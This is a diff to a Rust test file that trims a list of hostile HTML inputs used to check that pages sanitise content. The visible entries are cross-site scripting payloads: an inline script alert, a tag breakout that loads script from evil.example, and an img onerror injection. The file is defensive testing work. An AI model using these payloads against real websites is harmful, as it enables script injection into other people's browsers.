@@ -9,7 +9,7 @@ use crate::harness::{Receiver, Server, completion, error};
 
 /// Elements that a page must not have, ways out of attributes and elements, and texts that do something elsewhere. All
 /// elements have the attribute that `tests/browser/hostile.py` looks for.
-const SET: [&str; 21] = [
+const SET: [&str; 18] = [
     "<script data-evil>alert(1)</script>",
     "</script><script data-evil src=http://evil.example/x.js></script>",
     "--></pre></code></title></textarea></select></style><img data-evil src=x onerror=alert(1)>",
